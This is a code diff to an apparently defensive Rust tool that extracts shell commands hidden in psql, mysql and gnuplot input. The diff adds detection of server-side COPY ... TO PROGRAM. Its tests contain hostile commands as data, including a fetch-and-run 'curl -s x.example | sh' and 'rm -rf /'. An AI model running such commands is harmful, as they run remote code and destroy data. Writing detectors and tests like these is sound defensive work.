@@ -182,8 +182,9 @@ fn line_commands(family: Family, line: &str) -> Vec<&str> {
                     }
                 }
             }
-            // `\copy t to program 'cmd'`.
-            if lower.trim_start().starts_with("\\copy") {
+            // `\copy t to program 'cmd'`, and the server's own `COPY t TO PROGRAM 'cmd'` (run by
+            // the database server's account, on the machine the server runs on).
+            if lower.trim_start().starts_with("\\copy") || lower.contains("copy ") {
                 if let Some(at) = lower.find(" program ") {
                     let quoted = line[at + 9..].trim_start();
                     found.extend(quoted.strip_prefix('\'').and_then(|q| q.split('\'').next()));
@@ -397,6 +398,10 @@ mod tests {
             ["rm -rf /", "cat"]
         );
         assert_eq!(escaped_commands("psql", "\\copy t to program 'gzip > x'"), ["gzip > x"]);
+        assert_eq!(
+            escaped_commands("psql", "COPY (SELECT 1) TO PROGRAM 'curl -s x.example | sh';"),
+            ["curl -s x.example | sh"]
+        );
         assert_eq!(escaped_commands("mysql", "SYSTEM rm -rf /\n\\! id"), ["rm -rf /", "id"]);
         assert_eq!(
             escaped_commands("gnuplot", "sy \"rm -rf /\"; print system(\"id\")"),
